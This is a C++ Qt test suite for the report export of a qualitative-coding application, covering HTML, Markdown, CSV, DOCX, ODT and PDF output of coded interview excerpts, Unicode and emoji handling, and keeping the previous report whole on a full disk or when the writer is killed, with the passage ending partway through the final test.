#include "analysis/Agreement.h"
#include "common/AtomicFile.h"
#include "import/DocumentReader.h"
#include "project/Codebook.h"
#include "project/CodingStore.h"
#include "project/DocumentStore.h"
#include "project/Project.h"
#include "report/CsvField.h"
#include "report/Report.h"
#include "report/ReportLabels.h"
#include "text/TextIndex.h"
#include "text/TextNormalizer.h"

#include <quazip.h>
#include <quazipfile.h>

#include <QDir>
#include <QElapsedTimer>
#include <QFileInfo>
#include <QFile>
#include <QFontDatabase>
#include <QJsonArray>
#include <QJsonDocument>
#include <QProcess>
#include <QTemporaryDir>
#include <QTest>
#include <QTranslator>
#include <QTextDocument>
#include <QXmlStreamReader>

#include <cerrno>
#include <csignal>

#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

using namespace marginalia;

namespace {

QByteArray zipEntry(const QString &path, const QString &name)
{
    QuaZip zip(path);
    if (!zip.open(QuaZip::mdUnzip) || !zip.setCurrentFile(name))
        return {};
    QuaZipFile file(&zip);
    if (!file.open(QIODevice::ReadOnly))
        return {};
    return file.readAll();
}

// The text of a WordprocessingML body: runs' text, <w:br/> and paragraph ends as "\n".
QString docxText(const QByteArray &xml)
{
    QString text;
    QXmlStreamReader reader(xml);
    while (!reader.atEnd()) {
        reader.readNext();
        if (reader.isStartElement() && reader.name() == u"t")
            text += reader.readElementText();
        else if (reader.isStartElement() && reader.name() == u"br")
            text += u'\n';
        else if (reader.isEndElement() && reader.name() == u"p")
            text += u'\n';
    }
    return reader.hasError() ? QStringLiteral("XML ERROR: ") + reader.errorString() : text;
}

// The text of an ODF content.xml: paragraphs and headings end in "\n"; <text:s/> are spaces.
QString odtText(const QByteArray &xml)
{
    QString text;
    int inParagraph = 0;   // the writer indents its XML: only text inside paragraphs and headings counts
    QXmlStreamReader reader(xml);
    while (!reader.atEnd()) {
        reader.readNext();
        const bool block = reader.name() == u"p" || reader.name() == u"h";
        if (reader.isCharacters() && inParagraph > 0)
            text += reader.text();
        else if (reader.isStartElement() && block)
            ++inParagraph;
        else if (reader.isStartElement() && reader.name() == u"s")
            text += QString(qMax(1, reader.attributes().value(QStringLiteral("text:c")).toInt()), u' ');
        else if (reader.isStartElement() && reader.name() == u"tab")
            text += u'\t';
        else if (reader.isStartElement() && reader.name() == u"line-break")
            text += u'\n';
        else if (reader.isEndElement() && block) {
            --inParagraph;
            text += u'\n';
        }
    }
    return reader.hasError() ? QStringLiteral("XML ERROR: ") + reader.errorString() : text;
}

// RFC 4180: fields separated by commas, records by CRLF, quoted fields may hold commas, quotes ("") and line breaks.
QList<QStringList> parseCsv(const QString &content)
{
    QList<QStringList> records;
    QStringList record;
    QString field;
    bool quoted = false;
    for (qsizetype i = 0; i < content.size(); ++i) {
        const QChar c = content[i];
        if (quoted) {
            if (c == u'"') {
                if (i + 1 < content.size() && content[i + 1] == u'"') {
                    field += u'"';
                    ++i;
                } else {
                    quoted = false;
                }
            } else {
                field += c;
            }
        } else if (c == u'"') {
            quoted = true;
        } else if (c == u',') {
            record.append(field);
            field.clear();
        } else if (c == u'\r' && i + 1 < content.size() && content[i + 1] == u'\n') {
            record.append(field);
            field.clear();
            records.append(record);
            record.clear();
            ++i;
        } else {
            field += c;
        }
    }
    if (!field.isEmpty() || !record.isEmpty()) {
        record.append(field);
        records.append(record);
    }
    return records;
}

QString withoutSpace(QString text)
{
    text.remove(QRegularExpression(QStringLiteral("\\s")));
    return text;
}

} // namespace

class TestReport : public QObject
{
    Q_OBJECT

private:
    QTemporaryDir m_dir;
    std::unique_ptr<Project> m_project;
    QStringList m_excerpts;
    QString m_memo;

    qint64 addDocument(const QString &name, const QString &text, const QString &site)
    {
        NewDocument document;
        document.name = name;
        document.text = normalizeForStorage(text);
        DocumentStore store(*m_project);
        auto id = store.add(document);
        if (!id)
            qFatal("%s", qPrintable(id.error()));
        store.setAttribute(*id, QStringLiteral("site"), site);
        store.setAttribute(*id, QStringLiteral("kind"), QStringLiteral("teacher interview"));
        return *id;
    }

    // Codes the first occurrence of the passage, converting its QString offset to code points.
    void code(qint64 document, const QString &text, const QString &passage, qint64 codeId, const QString &memo = {},
              const QString &coder = {}, bool newPassage = true)
    {
        const qsizetype at = text.indexOf(passage);
        QVERIFY(at >= 0);
        NewCoding coding;
        coding.documentId = document;
        coding.codeId = codeId;
        coding.start = TextIndex::codePointLength(QStringView(text).left(at));
        coding.end = coding.start + TextIndex::codePointLength(passage);
        coding.memo = memo;
        coding.coder = coder;
        auto added = CodingStore(*m_project).add(coding);
        QVERIFY2(added, added ? "" : qPrintable(added.error()));
        if (newPassage)
            m_excerpts.append(passage);
    }

    QString write(const ReportOptions &options, const QString &name)
    {
        auto data = ReportWriter::collect(*m_project, options);
        if (!data)
            qFatal("%s", qPrintable(data.error()));
        const QString path = m_dir.filePath(name);
        auto format = ReportWriter::formatForPath(path);
        if (!format)
            qFatal("%s", qPrintable(format.error()));
        if (auto ok = ReportWriter::write(*m_project, *data, *format, path); !ok)
            qFatal("%s", qPrintable(ok.error()));
        return path;
    }

    void checkHasEverything(const QString &text)
    {
        for (const QString &excerpt : std::as_const(m_excerpts))
            QVERIFY2(text.contains(excerpt), qPrintable(QStringLiteral("missing excerpt: ") + excerpt));
        QVERIFY(text.contains(QStringLiteral("北京-教师访谈.txt")));
        QVERIFY(text.contains(QStringLiteral("kunming-teacher.txt")));
        QVERIFY(text.contains(m_memo));
        QVERIFY(text.contains(QStringLiteral("site: 北京")));
        QVERIFY(text.contains(QStringLiteral("教学方法")));
        QVERIFY(text.contains(QStringLiteral("coder Li Na")));
        // Citations, worked out by hand. 北京: line 1 "访谈员：请介绍一下您的教学。" is 14 code points and its "\n" the
        // 15th; line 2 "教师：…" starts at 15, so "我们" is at 18 (0-based) and the 12 characters end at 30: paragraph 2,
        // speaker 教师, characters 19–30 counted from 1. Kunming: "𠀀😀 Interviewer: " is 16 code points (line 1 has no
        // speaker: 😀 is no letter), "How do you teach?" 16–32, "\n" 33, "Teacher: We say" 34–48: paragraphs 1–2,
        // speaker Teacher, characters 17–49.
        QVERIFY2(text.contains(QStringLiteral("paragraph 2 · speaker 教师 · characters 19–30")), qPrintable(text));
        QVERIFY(text.contains(QStringLiteral("paragraphs 1–2 · speaker Teacher · characters 17–49")));
        // The passage Li Na and Wang both coded is shown once, with both of them.
        QCOMPARE(text.count(QStringLiteral("我们用于教学的方法是讨论")), 1);
        QVERIFY(text.contains(QStringLiteral("coders Li Na, Wang")));
        QVERIFY(text.contains(QStringLiteral("3 passages (4 codings)")));
    }

private Q_SLOTS:
    void initTestCase()
    {
        auto project = Project::create(m_dir.filePath(QStringLiteral("r.marginalia")));
        QVERIFY(project);
        m_project = std::move(*project);
        m_project->setCurrentCoder(QStringLiteral("Li Na"));
        const QString chinese = QStringLiteral("访谈员：请介绍一下您的教学。\n教师：我们用于教学的方法是讨论，学生们很喜欢。\n");
        const QString english = QStringLiteral("𠀀😀 Interviewer: How do you teach?\nTeacher: We say \"learn, then teach\" "
                                               "and <practise> & reflect.\nMore lines here.\n");
        const qint64 beijing = addDocument(QStringLiteral("北京-教师访谈.txt"), chinese, QStringLiteral("北京"));
        const qint64 kunming = addDocument(QStringLiteral("kunming-teacher.txt"), english, QStringLiteral("Kunming"));
        NewCode methods;
        methods.name = QStringLiteral("教学方法");
        const qint64 methodsId = *Codebook(*m_project).add(methods);
        NewCode reflection;
        reflection.name = QStringLiteral("Reflection");
        const qint64 reflectionId = *Codebook(*m_project).add(reflection);
        m_memo = QStringLiteral("多行 memo, with \"quotes\"");
        code(beijing, chinese, QStringLiteral("我们用于教学的方法是讨论"), methodsId);
        code(kunming, english, QStringLiteral("We say \"learn, then teach\" and <practise> & reflect."), reflectionId);
        code(kunming, english, QStringLiteral("How do you teach?\nTeacher: We say"), methodsId, m_memo);
        // A second coder codes the Chinese passage exactly as Li Na did: the same passage, a second coding.
        code(beijing, chinese, QStringLiteral("我们用于教学的方法是讨论"), methodsId, {}, QStringLiteral("Wang"), false);
    }

    void html()
    {
        ReportOptions options;
        options.includeMatrix = true;
        options.contextLength = 4;
        const QString path = write(options, QStringLiteral("r.html"));
        QFile file(path);
        QVERIFY(file.open(QIODevice::ReadOnly));
        const QString html = QString::fromUtf8(file.readAll());
        QVERIFY(html.contains(QStringLiteral("<meta charset=\"utf-8\">")));
        QVERIFY(!html.contains(QStringLiteral("<practise>")));   // escaped
        QTextDocument document;
        document.setHtml(html);
        QString text = document.toPlainText();
        text.replace(QChar::ParagraphSeparator, u'\n').replace(QChar::LineSeparator, u'\n');
        checkHasEverything(text);
        QVERIFY(text.contains(QStringLiteral("Codes × site")));
        // The matrix names both measures; 教学方法 in 北京: one passage, two codings, one document.
        QVERIFY(text.contains(QStringLiteral("Passages / codings (documents with the code)")));
        QVERIFY(html.contains(QStringLiteral("<td>1 / 2 (1)</td>")));
        // Context: 4 characters on each side of the Chinese excerpt.
        QVERIFY(text.contains(QStringLiteral("…\n教师：我们用于教学的方法是讨论，学生们…")));
    }

    void markdown()
    {
        ReportOptions options;
        options.grouping = ReportGrouping::BySite;
        const QString path = write(options, QStringLiteral("r.md"));
        QFile file(path);
        QVERIFY(file.open(QIODevice::ReadOnly));
        const QString md = QString::fromUtf8(file.readAll());
        QVERIFY(md.contains(QStringLiteral("**我们用于教学的方法是讨论**")));
        QVERIFY(md.contains(QStringLiteral("> **How do you teach?\n> Teacher: We say**")));
        QVERIFY(md.contains(QStringLiteral("\\<practise\\>")));
        // Citations (worked out in checkHasEverything); the passage of two coders once.
        QVERIFY(md.contains(QStringLiteral("paragraph 2 · speaker 教师 · characters 19–30 · coders Li Na, Wang")));
        QVERIFY(md.contains(QStringLiteral("paragraphs 1–2 · speaker Teacher · characters 17–49 · coder Li Na")));
        QCOMPARE(md.count(QStringLiteral("我们用于教学的方法是讨论")), 1);
        // By site, then code: Kunming sorts before 北京; each site has its codes under it.
        const qsizetype kunming = md.indexOf(QStringLiteral("\n## Kunming\n"));
        const qsizetype beijing = md.indexOf(QStringLiteral("\n## 北京\n"));
        QVERIFY(kunming > 0 && beijing > kunming);
        QVERIFY(md.indexOf(QStringLiteral("### 教学方法 (1)"), beijing) > beijing);
    }

    // Lines of an excerpt inside the Markdown block quote: what would start a list, a heading underline, a fence or
    // an indented code block at the start of a line is escaped (CommonMark's block starts, worked out by hand);
    // the same characters elsewhere in the line are left alone.
    void markdownQuoteLinesStartNoBlock()
    {
        QCOMPARE(markdownQuoteLine(u"1. first"), QStringLiteral("1\\. first"));
        QCOMPARE(markdownQuoteLine(u"12) twelve"), QStringLiteral("12\\) twelve"));
        QCOMPARE(markdownQuoteLine(u"3.5 times"), QStringLiteral("3\\.5 times"));
        QCOMPARE(markdownQuoteLine(u"- a dash"), QStringLiteral("\\- a dash"));
        QCOMPARE(markdownQuoteLine(u"  + plus"), QStringLiteral("  \\+ plus"));
        QCOMPARE(markdownQuoteLine(u"==="), QStringLiteral("\\==="));
        QCOMPARE(markdownQuoteLine(u"~~~"), QStringLiteral("\\~~~"));
        QCOMPARE(markdownQuoteLine(u"    code?"), QStringLiteral("&#32;   code?"));
        QCOMPARE(markdownQuoteLine(u"plain - text 1. here"), QStringLiteral("plain - text 1. here"));
        QCOMPARE(markdownQuoteLine(u"教师：1. 好"), QStringLiteral("教师：1. 好"));
        QCOMPARE(markdownQuoteLine(u"2020"), QStringLiteral("2020"));
        QCOMPARE(markdownQuoteLine(u""), QString());
    }

    void csv()
    {
        const QString path = write({}, QStringLiteral("r.csv"));
        QFile file(path);
        QVERIFY(file.open(QIODevice::ReadOnly));
        const QByteArray bytes = file.readAll();
        QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
        const QList<QStringList> records = parseCsv(QString::fromUtf8(bytes.mid(3)));
        QCOMPARE(records.size(), m_excerpts.size() + 1);
        const QStringList header = records.first();
        const qsizetype excerptColumn = header.indexOf(QStringLiteral("excerpt"));
        const qsizetype siteColumn = header.indexOf(QStringLiteral("site"));
        const qsizetype memoColumn = header.indexOf(QStringLiteral("memo"));
        QVERIFY(excerptColumn > 0 && siteColumn > 0 && memoColumn > 0);
        QStringList excerpts;
        for (qsizetype i = 1; i < records.size(); ++i) {
            QCOMPARE(records[i].size(), header.size());
            excerpts.append(records[i][excerptColumn]);
        }
        for (const QString &excerpt : std::as_const(m_excerpts))
            QVERIFY2(excerpts.contains(excerpt), qPrintable(excerpt));
        QStringList memos;
        for (qsizetype i = 1; i < records.size(); ++i)
            memos.append(records[i][memoColumn]);
        QVERIFY(memos.contains(m_memo));
        // The passage of two coders is one row, naming both; citations as in checkHasEverything, one number a cell.
        const auto column = [&](const char *name) { return header.indexOf(QLatin1String(name)); };
        const qsizetype chineseRow = excerpts.indexOf(QStringLiteral("我们用于教学的方法是讨论")) + 1;
        QVERIFY(chineseRow > 0);
        const QStringList &row = records[chineseRow];
        QCOMPARE(row[column("coders")], QStringLiteral("Li Na, Wang"));
        QCOMPARE(row[column("codings")], QStringLiteral("2"));
        QCOMPARE(row[column("first_paragraph")], QStringLiteral("2"));
        QCOMPARE(row[column("last_paragraph")], QStringLiteral("2"));
        QCOMPARE(row[column("speakers")], QStringLiteral("教师"));
        QCOMPARE(row[column("first_character")], QStringLiteral("19"));
        QCOMPARE(row[column("last_character")], QStringLiteral("30"));
        const qsizetype englishRow = excerpts.indexOf(QStringLiteral("How do you teach?\nTeacher: We say")) + 1;
        QCOMPARE(records[englishRow][column("first_paragraph")], QStringLiteral("1"));
        QCOMPARE(records[englishRow][column("last_paragraph")], QStringLiteral("2"));
        QCOMPARE(records[englishRow][column("first_character")], QStringLiteral("17"));
        QCOMPARE(records[englishRow][column("last_character")], QStringLiteral("49"));
    }

    void docx()
    {
        ReportOptions options;
        options.includeMatrix = true;
        const QString path = write(options, QStringLiteral("r.docx"));
        for (const char *part : {"[Content_Types].xml", "_rels/.rels", "word/styles.xml", "word/_rels/document.xml.rels"})
            QVERIFY2(!zipEntry(path, QLatin1String(part)).isEmpty(), part);
        const QString text = docxText(zipEntry(path, QStringLiteral("word/document.xml")));
        checkHasEverything(text);
        // Our own importer reads it back too.
        auto read = readDocumentFile(path);
        QVERIFY2(read, read ? "" : qPrintable(read.error()));
        QVERIFY(read->text.contains(QStringLiteral("我们用于教学的方法是讨论")));
    }

    void odt()
    {
        ReportOptions options;
        options.includeMatrix = true;
        const QString path = write(options, QStringLiteral("r.odt"));
        const QString text = odtText(zipEntry(path, QStringLiteral("content.xml")));
        checkHasEverything(text);
    }

    void pdf()
    {
        auto data = ReportWriter::collect(*m_project, {});
        QVERIFY(data);
        const QString path = m_dir.filePath(QStringLiteral("r.pdf"));
        int pages = 0;
        QVERIFY(ReportWriter::writePdf(*m_project, *data, path, &pages));
        QCOMPARE(pages, 1);
        QFile file(path);
        QVERIFY(file.open(QIODevice::ReadOnly));
        const QByteArray bytes = file.readAll();
        QVERIFY(bytes.startsWith("%PDF"));
        QVERIFY(bytes.contains("/FontFile"));   // fonts embedded
        // Read back with Poppler (our PDF importer): the Chinese comes out as Chinese.
        auto read = readDocumentFile(path);
        QVERIFY2(read, read ? "" : qPrintable(read.error()));
        const QString text = withoutSpace(read->text);
        for (const QString &excerpt : std::as_const(m_excerpts))
            QVERIFY2(text.contains(withoutSpace(excerpt)), qPrintable(excerpt + QStringLiteral(" in ") + read->text));
        QVERIFY(text.contains(QStringLiteral("北京-教师访谈.txt")));
        // The citations (see checkHasEverything), as a reader of the PDF copies them.
        QVERIFY2(text.contains(withoutSpace(QStringLiteral("paragraph 2 · speaker 教师 · characters 19–30"))),
                 qPrintable(read->text));
        QVERIFY(text.contains(withoutSpace(QStringLiteral("paragraphs 1–2 · speaker Teacher · characters 17–49"))));
        QVERIFY(text.contains(withoutSpace(QStringLiteral("coders Li Na, Wang"))));
    }

    // Reports for a thesis: the title and author; ODT headings in the Heading styles with outline levels (what
    // LibreOffice's Navigator and table of contents read) and DOCX headings in Heading1/Heading2; under each code
    // heading its definition and memo; the document memos in a last section.
    void thesisReadyHeadingsDefinitionsAndMemos()
    {
        Codebook codebook(*m_project);
        auto methods = codebook.find(QStringLiteral("教学方法"));
        QVERIFY(methods);
        QVERIFY(codebook.setDescription(*methods, QStringLiteral("How teachers say they teach.")));
        QVERIFY(codebook.setMemo(*methods, QStringLiteral("Split into lecture and discussion later?")));
        auto documents = DocumentStore(*m_project).list();
        QVERIFY(documents);
        for (const DocumentInfo &document : *documents) {
            if (document.name == u"kunming-teacher.txt")
                QVERIFY(DocumentStore(*m_project).setMemo(document.id, QStringLiteral("Recorded in the staff room.")));
        }
        ReportOptions options;
        options.title = QStringLiteral("Chapter 4 excerpts");
        options.author = QStringLiteral("Dr. Wang Fang");
        // By code, 教学方法 has two passages: the Chinese one (two coders, one passage) and "How do you teach?…".
        const QString heading = QStringLiteral("教学方法 (2)");

        const QString odt = write(options, QStringLiteral("thesis.odt"));
        const QByteArray content = zipEntry(odt, QStringLiteral("content.xml"));
        QVERIFY2(content.contains(QStringLiteral("<text:h text:style-name=\"Heading_20_1\" text:outline-level=\"1\">%1"
                                                 "</text:h>").arg(heading).toUtf8()),
                 content.constData());
        const QByteArray odtStyles = zipEntry(odt, QStringLiteral("styles.xml"));
        QVERIFY(odtStyles.contains("style:name=\"Heading_20_1\" style:display-name=\"Heading 1\""));
        QVERIFY(odtStyles.contains("style:default-outline-level=\"1\""));
        QVERIFY(zipEntry(odt, QStringLiteral("mimetype")) == "application/vnd.oasis.opendocument.text");
        QVERIFY(zipEntry(odt, QStringLiteral("meta.xml")).contains("<dc:creator>Dr. Wang Fang</dc:creator>"));
        const QString odtBody = odtText(content);
        QVERIFY(odtBody.startsWith(QStringLiteral("Chapter 4 excerpts\nDr. Wang Fang\n")));
        // The definition and the memo right after the heading, in that order.
        QVERIFY2(odtBody.contains(heading + QStringLiteral("\nDefinition: How teachers say they teach.\n"
                                                           "Code memo: Split into lecture and discussion later?\n")),
                 qPrintable(odtBody));
        QVERIFY(odtBody.contains(QStringLiteral("Document memos\nkunming-teacher.txt\nRecorded in the staff room.\n")));

        const QString docx = write(options, QStringLiteral("thesis.docx"));
        const QByteArray document = zipEntry(docx, QStringLiteral("word/document.xml"));
        QVERIFY(document.contains(QStringLiteral("<w:pStyle w:val=\"Heading1\"/></w:pPr><w:r><w:t xml:space=\"preserve\">%1"
                                                  "</w:t>").arg(heading).toUtf8()));
        QVERIFY(zipEntry(docx, QStringLiteral("word/styles.xml")).contains("w:styleId=\"Heading1\""));
        QVERIFY(zipEntry(docx, QStringLiteral("docProps/core.xml")).contains("<dc:creator>Dr. Wang Fang</dc:creator>"));
        const QString docxBody = docxText(document);
        QVERIFY(docxBody.startsWith(QStringLiteral("Chapter 4 excerpts\nDr. Wang Fang\n")));
        QVERIFY(docxBody.contains(heading + QStringLiteral("\nDefinition: How teachers say they teach.\n"
                                                           "Code memo: Split into lecture and discussion later?\n")));
        QVERIFY(docxBody.contains(QStringLiteral("Document memos\nkunming-teacher.txt\nRecorded in the staff room.\n")));
        // Our own importer reads the DOCX back (content types and relationships are right).
        QVERIFY(readDocumentFile(docx));

        // By site: the site is Heading 1, the code under it Heading 2 (in 北京, 教学方法 has one passage).
        options.grouping = ReportGrouping::BySite;
        const QByteArray bySite = zipEntry(write(options, QStringLiteral("site.odt")), QStringLiteral("content.xml"));
        QVERIFY(bySite.contains(QStringLiteral("<text:h text:style-name=\"Heading_20_1\" text:outline-level=\"1\">北京"
                                               "</text:h>").toUtf8()));
        QVERIFY(bySite.contains(QStringLiteral("<text:h text:style-name=\"Heading_20_2\" text:outline-level=\"2\">教学方法 (1)"
                                               "</text:h>").toUtf8()));

        // Without a chosen author, the current coder (set to Li Na for this project).
        options.author.clear();
        QFile file(write(options, QStringLiteral("thesis.html")));
        QVERIFY(file.open(QIODevice::ReadOnly));
        const QByteArray page = file.readAll();
        QVERIFY(page.contains("<meta name=\"author\" content=\"Li Na\">"));
        QVERIFY(page.contains("<p class=\"author\">Li Na</p>"));

        // The memos stay for the tests after this one only as extra text; the counts are unchanged.
        QVERIFY(codebook.setDescription(*methods, {}));
        QVERIFY(codebook.setMemo(*methods, {}));
    }

    // Characters outside the BMP print and copy: CJK Extension B (𠀀, from HanaMinB), emoji (😀 from DejaVu Sans,
    // 👩‍🏫 from Noto Color Emoji: a woman, a zero-width joiner, a school, drawn as pictures over their glyphs). Qt's
    // PDF writer gives these no ToUnicode entry; the report adds them. Read back by poppler's pdftotext, as a reader
    // copying from the PDF gets them.
    void pdfGivesBackCharactersOutsideTheBmp()
    {
        QTemporaryDir folder;
        auto created = Project::create(QDir(folder.path()).filePath(QStringLiteral("e.marginalia")));
        QVERIFY(created);
        Project &project = **created;
        // 𠀀 U+20000, 😀 U+1F600, 👩 U+1F469, ZWJ U+200D, 🏫 U+1F3EB, 𪜀 U+2A700 (Extension C).
        const QString text = QStringLiteral("Teacher 𠀀 and 😀, then 👩‍🏫 in 方法 class 𪜀.\n");
        NewDocument document;
        document.name = QStringLiteral("wide.txt");
        document.text = normalizeForStorage(text);
        auto id = DocumentStore(project).add(document);
        QVERIFY(id);
        NewCode code;
        code.name = QStringLiteral("Wide");
        auto codeId = Codebook(project).add(code);
        QVERIFY(codeId);
        NewCoding coding;
        coding.documentId = *id;
        coding.codeId = *codeId;
        coding.start = 0;
        coding.end = TextIndex::codePointLength(text) - 1;   // the line without its "\n"
        QVERIFY(CodingStore(project).add(coding));
        auto data = ReportWriter::collect(project, {});
        QVERIFY(data);
        const QString path = QDir(folder.path()).filePath(QStringLiteral("wide.pdf"));
        QVERIFY(ReportWriter::writePdf(project, *data, path));
        QProcess pdftotext;
        pdftotext.start(QStringLiteral("pdftotext"), {QStringLiteral("-enc"), QStringLiteral("UTF-8"), path,
                                                      QStringLiteral("-")});
        if (!pdftotext.waitForStarted())
            QSKIP("pdftotext (poppler-utils) is not installed");
        QVERIFY(pdftotext.waitForFinished(30000));
        QCOMPARE(pdftotext.exitCode(), 0);
        // pdftotext may put a space where a picture's width differs from the glyph's: compared without spaces.
        const QString copied = withoutSpace(QString::fromUtf8(pdftotext.readAllStandardOutput()));
        for (const QString &expected : {QStringLiteral("Teacher𠀀and😀,then"), QStringLiteral("👩\u200D🏫in方法class𪜀.")})
            QVERIFY2(copied.contains(expected), qPrintable(expected + QStringLiteral(" not in ") + copied));
    }

    // An emoji sequence is one picture: 👩‍🏫 (U+1F469 ZWJ U+1F3EB), 👍🏽 (thumbs up, skin tone U+1F3FD) and 🇩🇪 (two
    // regional indicators) are ligatures of Noto Color Emoji, so the page shows 3 pictures, not the 6 of their parts
    // drawn one by one; and each sequence is copied back whole by pdftotext.
    void pdfDrawsEmojiSequencesAsOneGlyph()
    {
        if (!QFontDatabase::families().contains(QStringLiteral("Noto Color Emoji")))
            QSKIP("fonts-noto-color-emoji is not installed");
        QTemporaryDir folder;
        auto created = Project::create(QDir(folder.path()).filePath(QStringLiteral("z.marginalia")));
        QVERIFY(created);
        Project &project = **created;
        const QString text = QStringLiteral("A \U0001F469\u200D\U0001F3EB B \U0001F44D\U0001F3FD C \U0001F1E9\U0001F1EA D\n");
        NewDocument document;
        document.name = QStringLiteral("z.txt");
        document.text = normalizeForStorage(text);
        auto id = DocumentStore(project).add(document);
        QVERIFY(id);
        NewCode code;
        code.name = QStringLiteral("Z");
        auto codeId = Codebook(project).add(code);
        QVERIFY(codeId);
        NewCoding coding;
        coding.documentId = *id;
        coding.codeId = *codeId;
        coding.start = 0;
        coding.end = TextIndex::codePointLength(text) - 1;
        QVERIFY(CodingStore(project).add(coding));
        auto data = ReportWriter::collect(project, {});
        QVERIFY(data);
        const QString path = QDir(folder.path()).filePath(QStringLiteral("z.pdf"));
        QVERIFY(ReportWriter::writePdf(project, *data, path));
        QProcess images;
        images.start(QStringLiteral("pdfimages"), {QStringLiteral("-list"), path});
        if (!images.waitForStarted())
            QSKIP("pdfimages (poppler-utils) is not installed");
        QVERIFY(images.waitForFinished(30000));
        // One line per picture drawn ("image"), each followed by its transparency mask ("smask").
        const QStringList lines = QString::fromUtf8(images.readAllStandardOutput()).split(u'\n', Qt::SkipEmptyParts);
        qsizetype pictures = 0;
        for (const QString &line : lines)
            pictures += line.simplified().split(u' ').value(2) == QStringLiteral("image") ? 1 : 0;
        QCOMPARE(pictures, 3);
        QProcess pdftotext;
        pdftotext.start(QStringLiteral("pdftotext"), {QStringLiteral("-enc"), QStringLiteral("UTF-8"), path,
                                                      QStringLiteral("-")});
        QVERIFY(pdftotext.waitForStarted());
        QVERIFY(pdftotext.waitForFinished(30000));
        const QString copied = withoutSpace(QString::fromUtf8(pdftotext.readAllStandardOutput()));
        const QString expected = withoutSpace(text.trimmed());
        QVERIFY2(copied.contains(expected), qPrintable(expected + QStringLiteral(" not in ") + copied));
    }

    // Text that needs shaping (Arabic, Devanagari, a combining accent) goes through QTextLayout; a script no installed
    // font has (Qt's box engine, which has no font tables) once crashed the glyph bookkeeping.
    void pdfShapesComplexScripts()
    {
        QTemporaryDir folder;
        auto created = Project::create(QDir(folder.path()).filePath(QStringLiteral("s.marginalia")));
        QVERIFY(created);
        Project &project = **created;
        const QString text = QStringLiteral("مرحبا بالعالم then नमस्ते and cafe\u0301 ok\n");
        NewDocument document;
        document.name = QStringLiteral("shaped.txt");
        document.text = text;   // not normalised: the combining accent stays a mark
        auto id = DocumentStore(project).add(document);
        QVERIFY2(id, id ? "" : qPrintable(id.error()));
        NewCode code;
        code.name = QStringLiteral("Shaped");
        auto codeId = Codebook(project).add(code);
        QVERIFY(codeId);
        NewCoding coding;
        coding.documentId = *id;
        coding.codeId = *codeId;
        coding.start = 0;
        coding.end = TextIndex::codePointLength(text) - 1;
        QVERIFY(CodingStore(project).add(coding));
        auto data = ReportWriter::collect(project, {});
        QVERIFY(data);
        const QString path = QDir(folder.path()).filePath(QStringLiteral("shaped.pdf"));
        int pages = 0;
        QVERIFY(ReportWriter::writePdf(project, *data, path, &pages));
        QCOMPARE(pages, 1);
        auto read = readDocumentFile(path);
        QVERIFY2(read, read ? "" : qPrintable(read.error()));
        QVERIFY2(read->text.contains(QStringLiteral("then")) && read->text.contains(QStringLiteral("ok")),
                 qPrintable(read->text));
    }

    // Every format on a full disk: the write fails with a sentence naming the cause, the previous report stays byte
    // for byte, and nothing is left beside it. As root, on a real full tmpfs mounted for the test; always also with a
    // write failure injected into AtomicFile (the hook a test without root can use).
    void fullDiskKeepsThePreviousReport_data()
    {
        QTest::addColumn<QString>("name");
        for (const char *name : {"full.html", "full.md", "full.csv", "full.docx", "full.odt", "full.pdf"})
            QTest::newRow(name) << QString::fromLatin1(name);
    }

    void fullDiskKeepsThePreviousReport()
    {
        QFETCH(QString, name);
        auto data = ReportWriter::collect(*m_project, {});
        QVERIFY(data);
        auto format = ReportWriter::formatForPath(name);
        QVERIFY(format);
        // The new report differs from the old one (another title), so a half-written one would show.
        ReportData changed = *data;
        changed.title = QStringLiteral("A newer report, which must not replace the old one half-written");

        // Injected: writes fail with ENOSPC after half as many bytes as the old report has.
        {
            QTemporaryDir folder;
            const QString path = QDir(folder.path()).filePath(name);
            QVERIFY(ReportWriter::write(*m_project, *data, *format, path));
            QFile old(path);
            QVERIFY(old.open(QIODevice::ReadOnly));
            const QByteArray before = old.readAll();
            QVERIFY(before.size() > 500);
            AtomicFile::injectWriteFailure(before.size() / 2, ENOSPC);
            auto written = ReportWriter::write(*m_project, changed, *format, path);
            AtomicFile::injectWriteFailure(-1, 0);
            QVERIFY(!written);
            QVERIFY2(written.error().contains(QStringLiteral("the disk is full")), qPrintable(marginalia::errorText(written)));
            QFile after(path);
            QVERIFY(after.open(QIODevice::ReadOnly));
            QCOMPARE(after.readAll(), before);
            QVERIFY(QDir(folder.path()).entryList(QDir::Files | QDir::Hidden).filter(QStringLiteral("marginalia-tmp")).isEmpty());
        }

        // A real full disk: a 2 MB tmpfs, the old report on it, then the rest filled up.
        if (::geteuid() != 0)
            QSKIP("mounting a small tmpfs needs root; the injected failure above covered the writer");
        QTemporaryDir mountPoint;
        const QByteArray where = QFile::encodeName(mountPoint.path());
        if (::mount("tmpfs", where.constData(), "tmpfs", 0, "size=2m") != 0)
            QSKIP("cannot mount a tmpfs here");
        struct Unmount {
            QByteArray where;
            ~Unmount() { ::umount2(where.constData(), MNT_DETACH); }
        } unmount{where};
        const QString path = QDir(mountPoint.path()).filePath(name);
        QVERIFY(ReportWriter::write(*m_project, *data, *format, path));
        {
            QFile filler(QDir(mountPoint.path()).filePath(QStringLiteral("filler")));
            QVERIFY(filler.open(QIODevice::WriteOnly | QIODevice::Unbuffered));
            const QByteArray block(4096, 'x');
            while (filler.write(block) == block.size()) {
            }
        }
        QFile old(path);
        QVERIFY(old.open(QIODevice::ReadOnly));
        const QByteArray before = old.readAll();
        old.close();
        auto written = ReportWriter::write(*m_project, changed, *format, path);
        QVERIFY(!written);
        QVERIFY2(written.error().contains(QStringLiteral("the disk is full")), qPrintable(marginalia::errorText(written)));
        QFile after(path);
        QVERIFY(after.open(QIODevice::ReadOnly));
        QCOMPARE(after.readAll(), before);
        const QStringList left = QDir(mountPoint.path()).entryList(QDir::Files | QDir::Hidden);
        QCOMPARE(left, (QStringList{QStringLiteral("filler"), name}));
    }

    // marginalia-cli report killed at moments spread over its run: the ODT target is always a whole report (the
    // previous one or a new one), never a cut or empty file; the next run removes the killed writers' temporaries.
    void killedReportWriterLeavesAWholeReport()
    {
        QTemporaryDir folder;
        const QString path = QDir(folder.path()).filePath(QStringLiteral("k.odt"));
        const QStringList arguments = {QStringLiteral("report"), m_project->path(), QStringLiteral("--out"), path};
        auto runToEnd = [&] {
            QProcess process;
            process.start(QStringLiteral(MARGINALIA_CLI), arguments);
            return process.waitForFinished(60000) && process.exitStatus() == QProcess::NormalExit
